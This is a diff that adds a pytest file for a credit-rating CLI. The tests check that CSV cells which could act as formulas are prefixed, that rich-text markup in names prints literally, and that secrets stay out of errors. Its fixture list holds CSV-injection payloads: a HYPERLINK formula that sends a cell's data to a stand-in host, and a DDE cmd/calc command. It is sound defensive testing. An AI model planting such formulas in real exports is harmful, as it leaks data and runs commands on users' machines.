@@ -1,0 +1,239 @@
+"""What the CLI writes is data, never instructions: to a spreadsheet, to a terminal, to a log.
+
+- CSV: a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to
+  Excel and LibreOffice (CSV injection); such text cells are written with a leading `'`.
+- Terminal: an institution's name, a finding's reference or a platform's message is printed
+  as it is, never read as rich markup (`[bold]`, `[/]`, `[link=…]`) or emoji codes.
+- Messages: no setting that can hold a secret (the database URL's password, the platform
+  secret) is ever echoed in an error message.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from sqlalchemy import update
+from typer.testing import CliRunner, Result
+
+from scoring.shipped import SAMPLE_DIR, load_rules
+from service.cli import app
+from service.core.database import make_engine, writing
+from service.core.migrate import upgrade
+from service.core.tables import deliveries
+from service.ratings import publishing
+from service.records.importing import import_files
+from tests.servers import ROOT
+
+PENALISED = "52120111MJ06185738"  # 博文: the institution with findings in 2023
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+MARKUP = [
+    "[/]",
+    "[bold]x[/bold]",
+    "[link=http://x]y[/link]",
+    "天津[red]市[/red]西青区:thumbs_up:培训学校",
+    "[/bold]",
+]
+
+
+def run(*args: str, env: dict[str, str] | None = None) -> Result:
+    return CliRunner().invoke(app, list(args), env=env)
+
+
+def institutions_named(tmp_path: Path, names: list[str]) -> tuple[Path, dict[str, str]]:
+    """The sample institutions with the first few renamed; returns the file and each name."""
+    with (SAMPLE_DIR / "institutions.csv").open(encoding="utf-8", newline="") as f:
+        rows = list(csv.DictReader(f))
+    for row, name in zip(rows, names, strict=False):
+        row["name"] = name
+    path = tmp_path / "institutions.csv"
+    with path.open("w", encoding="utf-8", newline="") as f:
+        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+    return path, {row["uscc"]: row["name"] for row in rows}
+
+
+# CSV injection ---------------------------------------------------------------------------------
+
+
+def test_rate_csv_neutralises_formulas_and_keeps_chinese_and_numbers(tmp_path: Path) -> None:
+    path, names = institutions_named(tmp_path, [*FORMULAS, "a=b-c+d@e"])
+    result = run("rate", "--year", "2023", "--institutions", str(path), "--format", "csv")
+    assert result.exit_code == 0, result.stderr
+    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
+    assert len(rows) == len(names)
+    for row in rows:
+        name = names[row["uscc"]]
+        if name in FORMULAS:
+            assert row["name"] == "'" + name  # shown as text, exactly as written after the '
+        else:
+            assert row["name"] == name  # "a=b-c+d@e" and every Chinese name untouched
+        assert row["name"][:1] not in ("=", "+", "-", "@", "\t", "\r")
+        assert int(row["score"]) >= 0 and row["score"] == row["score"].strip()
+    assert sum("培训学校" in row["name"] for row in rows) == len(names) - len(FORMULAS) - 1
+    # The same rating as JSON has the names as written: only the CSV is neutralised.
+    as_json = run("rate", "--year", "2023", "--institutions", str(path), "--format", "json")
+    assert {r["uscc"]: r["name"] for r in json.loads(as_json.stdout)} == names
+
+
+def test_every_csv_cell_that_could_be_a_formula_is_neutralised() -> None:
+    """The one function every CSV goes through, cell by cell: text is prefixed, numbers are
+    left as numbers."""
+    import pandas as pd
+
+    from service.cli.render import csv_text
+
+    frame = pd.DataFrame(
+        {
+            "text": [*FORMULAS, "ok", "中文", "", "'already"],
+            "number": range(10),
+            "ratio": [0.5] * 10,
+        }
+    )
+    rows = list(csv.reader(io.StringIO(csv_text(frame), newline="")))
+    assert rows[0] == ["text", "number", "ratio"]
+    assert [r[0] for r in rows[1:]] == [
+        *("'" + f for f in FORMULAS),
+        "ok",
+        "中文",
+        "",
+        "'already",
+    ]
+    assert [r[1] for r in rows[1:]] == [str(n) for n in range(10)]
+    assert {r[2] for r in rows[1:]} == {"0.5"}
+
+
+# Terminal markup -------------------------------------------------------------------------------
+
+
+def test_rate_table_prints_markup_in_names_literally(tmp_path: Path) -> None:
+    path, _ = institutions_named(tmp_path, MARKUP)
+    result = run("rate", "--year", "2023", "--institutions", str(path))
+    assert result.exit_code == 0, result.stderr
+    for name in MARKUP:
+        assert name in result.stdout, name
+
+
+def test_explain_prints_markup_in_names_references_and_notes_literally(tmp_path: Path) -> None:
+    institutions, _ = institutions_named(tmp_path, [])
+    rows = list(csv.DictReader((SAMPLE_DIR / "institutions.csv").open(encoding="utf-8")))
+    renamed = [
+        {**r, "name": "[bold]博文[/bold]" if r["uscc"] == PENALISED else r["name"]} for r in rows
+    ]
+    with institutions.open("w", encoding="utf-8", newline="") as f:
+        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(renamed)
+    with (SAMPLE_DIR / "findings.csv").open(encoding="utf-8", newline="") as f:
+        found = list(csv.DictReader(f))
+    mine = [r for r in found if r["uscc"] == PENALISED and r["occurred_on"].startswith("2023")]
+    assert len(mine) >= 2
+    mine[0]["reference"] = "[/]"
+    mine[0]["note"] = "[link=http://x]y[/link]"
+    mine[1]["reference"] = "[red]西青教罚[/red]"
+    findings = tmp_path / "findings.csv"
+    with findings.open("w", encoding="utf-8", newline="") as f:
+        writer = csv.DictWriter(f, fieldnames=list(found[0]))
+        writer.writeheader()
+        writer.writerows(found)
+    result = run(
+        "explain",
+        "--year",
+        "2023",
+        PENALISED,
+        "--institutions",
+        str(institutions),
+        "--findings",
+        str(findings),
+    )
+    assert result.exit_code == 0, result.stderr
+    for text in ("[bold]博文[/bold]", "[/]", "[red]西青教罚[/red]"):
+        assert text in result.stdout, text
+
+
+def test_evaluate_table_prints_markup_in_stored_names_literally(tmp_path: Path) -> None:
+    path, _ = institutions_named(tmp_path, MARKUP)
+    env = {"CREDIT_DATABASE_URL": f"sqlite:///{tmp_path / 'cli.db'}"}
+    imported = run("import", str(path), str(SAMPLE_DIR / "findings.csv"), env=env)
+    assert imported.exit_code == 0, imported.stderr
+    result = run("evaluate", "--year", "2023", env=env)
+    assert result.exit_code == 0, result.stderr
+    for name in MARKUP:
+        assert name in result.stdout, name
+
+
+def test_share_status_prints_markup_in_platform_messages_literally(tmp_path: Path) -> None:
+    url = f"sqlite:///{tmp_path / 'cli.db'}"
+    engine = make_engine(url)
+    try:
+        upgrade(engine)
+        files = [SAMPLE_DIR / "institutions.csv", SAMPLE_DIR / "findings.csv"]
+        import_files(engine, files, rules=load_rules(), by="tests")
+        with writing(engine) as conn:
+            publishing.compute_draft(conn, rules=load_rules(), year=2023, scale="four", by="t")
+            publishing.publish(conn, year=2023, revision=None, reason=None, by="tests")
+        with writing(engine) as conn:
+            conn.execute(
+                update(deliveries).values(
+                    state="dead", attempts=8, last_error="422 [/] [bold]x[/bold] [link=http://x]y"
+                )
+            )
+    finally:
+        engine.dispose()
+    result = run("share", "--status", env={"CREDIT_DATABASE_URL": url})
+    assert result.exit_code == 0, result.stderr
+    assert "422 [/] [bold]x[/bold] [link=http://x]y" in result.stdout
+
+
+def test_progress_descriptions_are_not_markup(monkeypatch: pytest.MonkeyPatch) -> None:
+    """`share` on a terminal shows each batch's id and outcome in its progress bar."""
+    from types import SimpleNamespace
+
+    from rich.console import Console
+
+    from service.cli import render
+
+    screen = io.StringIO()
+    terminal = Console(file=screen, force_terminal=True, width=120)
+    monkeypatch.setattr(render, "console", lambda stderr=False: terminal)
+    with render.progress(1) as advance:
+        advance("[/][/] [link=http://x]", SimpleNamespace(outcome="[bold]delivered"))
+    assert "[/][/] [link=http://x] [bold]delivered" in screen.getvalue()
+
+
+def test_a_real_process_prints_a_markup_name_literally(tmp_path: Path) -> None:
+    """Outside CliRunner: the console a user's terminal gets."""
+    path, _ = institutions_named(tmp_path, ["[/]"])
+    result = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "service.cli",
+            "rate",
+            "--year",
+            "2023",
+            "--institutions",
+            f"{path}",
+        ],
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+        env=os.environ,
+    )
+    assert result.returncode == 0, result.stderr[-2000:]
+    assert "[/]" in result.stdout
